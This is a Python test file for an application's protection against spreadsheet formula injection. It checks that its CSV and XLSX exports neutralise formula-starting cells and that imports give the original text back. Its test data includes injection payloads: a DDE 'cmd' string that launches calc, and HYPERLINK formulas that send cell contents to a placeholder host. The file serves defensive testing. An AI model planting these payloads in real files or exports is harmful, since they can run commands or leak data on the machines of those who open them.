"""T19: no cell of an export is run by a spreadsheet, and an import gives the text back."""

import csv
import io

import openpyxl
import pytest

from matcher.domain.people import Role
from matcher.intake.formula_guard import (
    guarded,
    guarded_in_csv,
    unguarded,
    unguarded_in_csv,
)
from matcher.store.organisations import OrganisationRow
from matcher.workflow.export_files import as_csv, as_xlsx
from matcher.workflow.exports import SUBJECTS
from matcher.workflow.import_reading import read
from tests.abuse.filled_forms import House
from tests.workflow.people import a_startup
from web.charts.tables import Table, csv_of

HARMFUL = (
    '=HYPERLINK("https://x.invalid/?"&A1,"ouvrir")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "'=1+1", "''=1+1", "＝1+1", "－1",
)  # fmt: skip
RUN = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
INSIDE = (
    "Eau;=1+1;x", "Eau,=1+1,x", "Eau\t@SUM(1)\tx", "Eau\n=1+1\nx", 'Eau;"=1+1', "Eau;'=1+1",
    ";;=1+1", "Eau\r\n-1+1", "Eau;\t+1", 'a, b;=HYPERLINK("https://x.invalid","ouvrir");c',
    "Eau;\"'\"=1+1",
)  # fmt: skip
"""Texts that hold a formula where a spreadsheet that splits at another sign begins a cell."""
NAMES = (
    "=HYPERLINK Eau",
    "+Eau",
    "-Eau",
    "@Eau",
    "'=Eau",
    "'Eau'",
    "＝Eau",
    "Eau;=1+1",
    "Eau,'=1+1",
)


@pytest.mark.parametrize("text", HARMFUL)
def test_every_beginning_of_a_formula_gets_an_apostrophe(text):
    assert guarded(text) == f"'{text}"


def test_other_texts_stay_as_they_are():
    for text in ("Eau", "'Eau'", "l'eau = vie", "a-b", "", "2026", "مياه"):
        assert guarded(text) == text


@pytest.mark.parametrize("text", HARMFUL)
def test_no_cell_of_either_kind_of_file_begins_as_a_formula(text):
    cells = [text, [text, "b"], None, 3]
    for row in csv.reader(io.StringIO(as_csv(["a"], [cells]).decode("utf-8-sig"))):
        assert not any(cell.startswith(RUN) for cell in row)
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(["a"], [cells], "t")))
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not str(cell.value or "").startswith(RUN)
    chart = csv_of(Table((text,), ((text, -1, 0.5),)))
    words = [cell for row in csv.reader(io.StringIO(chart.lstrip("\ufeff"))) for cell in row]
    assert [cell for cell in words if cell.startswith(RUN)] == ["-1"], "a number is a number"


@pytest.mark.parametrize("opens_at", [",", ";", "\t", "|"])
@pytest.mark.parametrize("text", [*HARMFUL, *INSIDE])
def test_no_cell_of_a_csv_is_a_formula_wherever_a_spreadsheet_splits_it(text, opens_at):
    rows = [["Atlas", text, "Rabat"], [text, [text, "b"], text]]
    files = (
        as_csv(["a", "b", "c"], rows).decode("utf-8-sig"),
        csv_of(Table(("a", text), (("Atlas", text),))).lstrip("\ufeff"),
    )
    for file in files:
        for quotes in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            lines = io.StringIO(file, newline="")
            for row in csv.reader(lines, delimiter=opens_at, quoting=quotes):
                assert not [cell for cell in row if cell.strip('"').startswith(RUN)], file


@pytest.mark.parametrize(
    "text", [*HARMFUL, *INSIDE, "- a\n- b", "l'eau; 'a' = b", "", "'", "'Eau'"]
)
def test_what_is_taken_off_is_what_was_put_on(text):
    assert unguarded(guarded(text)) == text
    assert unguarded_in_csv(guarded_in_csv(text)) == text
    assert unguarded_in_csv(guarded_in_csv(guarded_in_csv(text))) == guarded_in_csv(text)


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    house = House(tmp_path_factory.mktemp("formulas"))
    with house.services.database.session() as session:
        for name in NAMES:
            a_startup(session, f"{name} filtre l'eau.", organisation={"name": name})
        session.get(OrganisationRow, house.world.ours.firm).name = "=Entreprise"
    yield house
    house.close()


@pytest.mark.parametrize("subject", SUBJECTS)
def test_no_export_of_the_pages_holds_a_formula(house, subject):
    browser = house.browser(Role.OFFICER)
    path = next(
        rule.rule
        for rule in house.app.url_map.iter_rules()
        if {"subject", "form"} <= rule.arguments
    )
    address = path.replace("<subject>", subject).replace("<form>", "csv")
    methods = next(rule.methods for rule in house.app.url_map.iter_rules() if rule.rule == path)
    answer = browser.post(address) if "POST" in methods else browser.get(address)
    assert answer.status_code == 200, answer.status_code
    rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
    assert len(rows) > 1
    assert not [cell for row in rows for cell in row if cell.startswith(RUN)]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_an_import_of_the_export_gives_the_names_and_texts_back(house, form):
    from matcher.workflow.context import Context
    from matcher.workflow.exports import export
    from tests.journeys.world import NOW

    officer = house.world.person(Role.OFFICER)
    with house.services.database.session() as session:
        made = export(Context(session, officer, NOW, house.services), "startups", form)
        session.rollback()
    sheet = read("startups", f"a.{form}", made.content)
    assert not sheet.refused
    given = {each.name: each.capabilities[0].text for each in sheet.startups}
    for name in NAMES:
        assert given[name] == f"{name} filtre l'eau."
